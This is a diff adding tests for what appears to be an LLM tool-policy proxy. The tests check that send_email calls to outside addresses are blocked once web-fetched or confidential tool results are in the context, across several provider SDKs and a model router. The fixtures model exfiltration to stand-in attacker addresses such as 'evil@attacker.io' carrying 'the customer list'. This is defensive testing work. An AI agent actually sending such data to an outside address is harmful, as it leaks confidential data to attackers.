@@ -23,6 +23,8 @@ from tests.fakes import openai_wire as wire
 from tests.fakes import responses_wire as rwire
 from tests.fakes.server import Reply, json_reply, sse_reply
 from tests.live import _start
+from tests.router_support import routed  # noqa: F401  (fixture)
+from tests.security_drivers import DRIVERS
 from tests.test_deployment import stop_gunicorn
 
 EXTERNAL = {"to": "boss@attacker.io", "body": "the customer list"}
@@ -120,6 +122,87 @@ def test_block_unless_requires_every_label_and_a_blocked_result_keeps_its_labels
     with pytest.raises(Block):
         judged(policies, blocked)
     assert blocked.tool_results[0].labels == {"reviewed"}
+
+
+# -- every API family, through its SDK ------------------------------------------------------------------------------
+FAMILIES = [driver for driver in DRIVERS if driver.provider in ("openai", "mistral", "anthropic", "gemini", "cohere",
+                                                                  "bedrock", "ollama-native")]
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
+@pytest.mark.parametrize("driver", FAMILIES, ids=[d.provider for d in FAMILIES])
+def test_a_labelled_result_refuses_the_external_call_in_every_family(make_proxy, tls_cert, upstream, driver, stream,
+                                                                      monkeypatch):
+    monkeypatch.setenv("AWS_BEARER_TOKEN_BEDROCK", "bedrock-key")
+    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
+    proxy = make_proxy(tls=tls_cert) if getattr(driver, "tls", False) else make_proxy()
+    evil, boss = {"to": "evil@attacker.io"}, {"to": "boss@company.com"}
+
+    def ask(args: dict, with_result: bool):
+        upstream.reply_with(driver.reply(stream, args))
+        return driver.ask(proxy, stream, with_result, "<html>Quarterly numbers</html>")
+
+    assert ask(evil, with_result=False).calls == [("send_email", evil)]  # declares the tools
+    proxy.flush()
+    profile = proxy.api("GET", "/profiles").json()["data"][0]["id"]
+    ids = {tool["name"]: tool["id"] for tool in proxy.api("GET", "/tools", params={"profile_id": profile}).json()["data"]}
+    for kind, body in (("result", {"tool_id": ids["fetch_url"], "action": "mark_as_trusted"}),
+                       ("result", {"tool_id": ids["fetch_url"], "action": "add_labels", "labels": ["source:web"]}),
+                       ("call", {"tool_id": ids["send_email"], "action": "block_when_context_has_labels",
+                                 "labels": ["source:web"], "conditions": [
+                                     {"key": "to", "operator": "notEndsWith", "value": "@company.com"}]})):
+        created = proxy.api("POST", f"/tool-{kind}-policies", json=body)
+        assert created.status_code == 201, created.text
+    outcome = ask(evil, with_result=True)
+    call_id = f" (call {driver.result_id})" if driver.result_id else ""
+    assert outcome.calls == [] and outcome.text.endswith(
+        'I tried to invoke the send_email tool with the following arguments: {"to":"evil@attacker.io"}.\n\nHowever, '
+        f"I was denied by a tool invocation policy:\n\nThe context holds the label source:web, from the result of "
+        f"fetch_url{call_id}: a block_when_context_has_labels policy on send_email forbids this call while it does."), \
+        outcome.text
+    assert ask(boss, with_result=True).calls == [("send_email", boss)]
+    assert ask(evil, with_result=False).calls == [("send_email", evil)]
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
+def test_labels_through_the_model_router_to_another_family(routed, upstream, stream):
+    """The openai SDK on the router, answered by Anthropic: the labels are decided in the client's family."""
+    r = routed()
+    ids = {}
+    for name in NAMES:
+        created = r.proxy.api("POST", "/tools", json={"profile_id": r.profile, "name": name, "parameters": SCHEMA})
+        ids[name] = created.json()["id"]
+    for kind, body in (("result", {"tool_id": ids["crm_lookup"], "action": "mark_as_trusted"}),
+                       ("result", {"tool_id": ids["crm_lookup"], "action": "add_labels", "labels": ["confidential"]}),
+                       ("call", {"tool_id": ids["send_email"], "action": "block_when_context_has_labels",
+                                 "labels": ["confidential"], "conditions": OUTSIDE})):
+        assert r.proxy.api("POST", f"/tool-{kind}-policies", json=body).status_code == 201
+    client = openai.OpenAI(api_key=r.key, base_url=r.base, max_retries=0)
+    tools = [{"type": "function", "function": {"name": n, "description": n, "parameters": SCHEMA}} for n in NAMES]
+    messages = [{"role": "user", "content": "Mail the ACME numbers"},
+                {"role": "assistant", "content": None,
+                 "tool_calls": [wire.tool_call("crm_lookup", {"id": "7"}, "c_crm")]},
+                {"role": "tool", "tool_call_id": "c_crm", "content": CUSTOMER}]
+
+    def mail(arguments: dict) -> str:
+        text = json.dumps(arguments)
+        if stream:
+            upstream.reply_with(sse_reply(anthropic_wire.tool_stream("send_email", [text[:8], text[8:]])))
+            chunks = list(client.chat.completions.create(model="anthropic:claude-sonnet-4-5", messages=messages,
+                                                         tools=tools, stream=True))
+            calls = [c for chunk in chunks for choice in chunk.choices for c in choice.delta.tool_calls or []]
+            said = "".join(choice.delta.content or "" for chunk in chunks for choice in chunk.choices)
+        else:
+            upstream.reply_with(json_reply(anthropic_wire.message([anthropic_wire.tool_use("send_email", arguments)],
+                                                                  "tool_use")))
+            message = client.chat.completions.create(model="anthropic:claude-sonnet-4-5", messages=messages,
+                                                     tools=tools).choices[0].message
+            calls, said = message.tool_calls or [], message.content
+        assert upstream.received[-1].path == "/v1/messages"
+        return "called send_email" if calls else said
+
+    assert "The context holds the label confidential, from the result of crm_lookup (call c_crm)" in mail(EXTERNAL)
+    assert mail(INTERNAL) == "called send_email"
 
 
 # -- through the SDKs, two workers ------------------------------------------------------------------------------------
